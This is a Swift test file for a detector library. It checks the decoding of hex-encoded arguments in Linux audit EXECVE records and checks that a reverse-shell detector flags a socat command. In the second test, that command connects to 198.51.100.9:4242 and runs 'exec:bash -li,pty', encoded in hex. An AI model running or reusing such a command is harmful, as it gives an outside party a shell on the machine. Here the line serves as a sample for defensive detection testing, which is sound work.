import Bytes
import Testing

@testable import Detectors

@Suite struct AuditArgumentsTests {
  private func joined(_ text: String) -> String? {
    text.withView { AuditArguments.joined($0) }.map { String(decoding: $0, as: UTF8.self) }
  }

  @Test func argumentsInDigitsAreRead() {
    #expect(joined("type=EXECVE msg=x: argc=3 a0=\"sh\" a1=\"-c\" a2=6C73202F") == "sh -c ls /")
    #expect(joined("type=EXECVE msg=x: argc=2 a0=\"sh\" a1=(null)") == nil)
    #expect(joined("type=EXECVE msg=x: argc=2 a0=\"ls\" a1=\"6C73\"") == nil)
    #expect(joined("a0=\"sh\" a1=6C73") == nil)
    #expect(joined(" argc=") == nil)
  }

  @Test func aShellIsSeenWhoseProgramAloneIsInDigits() {
    let text =
      "type=EXECVE msg=audit(1639130000.123:456): argc=3 a0=\"socat\" a1=\"tcp-connect:198.51.100.9:4242\" a2=657865633A62617368202D6C692C707479"
    let found = text.withView { ReverseShellDetector().scan($0, .command) }.first
    #expect(found?.technique == "socat")
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }
}
